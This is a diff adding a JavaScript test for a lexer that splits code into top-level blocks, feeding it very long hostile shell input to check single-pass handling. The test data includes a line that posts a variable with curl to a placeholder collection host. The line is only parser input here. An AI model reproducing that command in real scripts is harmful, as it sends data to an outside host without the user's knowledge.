@@ -50,6 +50,13 @@ describe('focus: top-level blocks', () => {
     assert.deepEqual(firstLines(text, 'python'), ['import os', '@cache', 'CONFIG = {', 'else_ = 2']);
   });
 
+  it('reads hostile long lines once (heredoc-like operators inside a substitution, endless assignments)', () => {
+    const line = `x=$(${'<< '.repeat(300_000)})`;
+    assert.equal(topLevelBlocks(`${line}\necho done\n`, 'shell').length, 2);
+    const assignments = `${'a=1;'.repeat(200_000)}\ncurl -d "$a" https://collect.example.invalid/x\n`;
+    assert.deepEqual(keptFirstLines(assignments, 'shell').map((l) => l?.slice(0, 8)), ['a=1;a=1;', 'curl -d ']);
+  });
+
   it('stops splitting where the lexer loses track (a stray closing bracket)', () => {
     assert.deepEqual(firstLines('a = 1\nb = f(x))\nc = 3\nd = 4\n', 'python'), ['a = 1', 'b = f(x))']);
   });
